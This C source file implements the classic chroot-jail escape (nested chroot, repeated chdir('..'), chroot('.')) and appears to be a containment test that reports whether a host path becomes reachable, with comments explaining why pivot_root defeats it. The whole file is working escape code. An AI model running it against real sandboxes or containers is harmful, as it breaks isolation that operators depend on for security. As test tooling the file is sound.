/*
 * escape.c - break out of a chroot jail, the classic way.
 *
 * chroot(2) changes one thing: where "/" resolves for this process.  It does
 * not change the current directory, and ".." stops only at the process's
 * root.  So a root process inside a chroot can chroot() again into a
 * subdirectory without chdir()ing into it: now its current directory lies
 * outside its root, and chdir("..") climbs freely up to the real root of the
 * mount namespace.  chroot(".") there undoes the jail.
 *
 * This is why stage 4 uses pivot_root(2) and unmounts the old root: after
 * that there is no path up to the host at all, and the climb ends at the
 * container's own "/".
 *
 * Usage: escape HOST_PATH
 *   Prints "escaped: HOST_PATH is reachable" and exits 1 if, after the
 *   escape, HOST_PATH (a path that exists only on the host) can be opened;
 *   prints "contained: HOST_PATH is not reachable" and exits 0 if not.
 *   Exits 2 if a step fails for another reason.  Run it as root.
 *
 * See: chroot(2), pivot_root(2), path_resolution(7)
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define EXIT_CONTAINED 0
#define EXIT_ESCAPED   1
#define EXIT_FAILED    2
/* More levels than any real directory tree is deep: the climb stops at the
 * real root, where ".." is "/" itself. */
#define CLIMB_LEVELS 256
#define SUBDIR_NAME  ".escape-XXXXXX"

/* Where the subdirectory can be made: /tmp, else the jail's root. */
static const char *const parents[] = {"/tmp", "/"};

/* The subdirectory we made, so that it can be removed on every path.  The
 * parent is held open because after the escape its name means nothing. */
static int parent_fd = -1;
static char subdir[sizeof(SUBDIR_NAME)];

static void remove_subdir(void)
{
	if (parent_fd == -1)
		return;
	if (unlinkat(parent_fd, subdir, AT_REMOVEDIR) == -1)
		fprintf(stderr, "escape: remove %s: %s\n", subdir,
			strerror(errno));
	close(parent_fd);
	parent_fd = -1;
}

static void fail(const char *what, const char *arg)
{
	fprintf(stderr, "escape: %s %s: %s\n", what, arg, strerror(errno));
	remove_subdir();
	exit(EXIT_FAILED);
}

/* Make a fresh directory in the current root to chroot into. */
static void make_subdir(void)
{
	size_t i;

	for (i = 0; i < sizeof(parents) / sizeof(parents[0]); i++) {
		int fd = open(parents[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		if (fd == -1)
			continue;
		strcpy(subdir, SUBDIR_NAME);
		/* Work from the parent: the escape needs the current
		 * directory outside the directory it chroots into. */
		if (fchdir(fd) == -1)
			fail("fchdir", parents[i]);
		if (mkdtemp(subdir) != NULL) {
			parent_fd = fd;
			return;
		}
		close(fd);
	}
	fail("mkdtemp", "in /tmp or /");
}

static void climb_out(void)
{
	int i;

	/* The trick: the new root is below the current directory, so the
	 * current directory is now outside the root. */
	if (chroot(subdir) == -1) {
		if (errno == EPERM) {
			/* Without CAP_SYS_CHROOT the escape cannot start. */
			perror("escape: chroot");
			return;
		}
		fail("chroot", subdir);
	}
	for (i = 0; i < CLIMB_LEVELS; i++) {
		if (chdir("..") == -1)
			fail("chdir", "..");
	}
	if (chroot(".") == -1)
		fail("chroot", ".");
}

int main(int argc, char **argv)
{
	const char *target;
	int fd;

	if (argc != 2) {
		fprintf(stderr, "usage: escape HOST_PATH\n");
		return EXIT_FAILED;
	}
	target = argv[1];

	make_subdir();
	climb_out();

	fd = open(target, O_RDONLY | O_CLOEXEC);
	if (fd == -1 && errno != ENOENT && errno != ENOTDIR)
		fprintf(stderr, "escape: open %s: %s\n", target,
			strerror(errno));
	remove_subdir();
	if (fd == -1) {
		printf("contained: %s is not reachable\n", target);
		return EXIT_CONTAINED;
	}
	close(fd);
	printf("escaped: %s is reachable\n", target);
	return EXIT_ESCAPED;
}
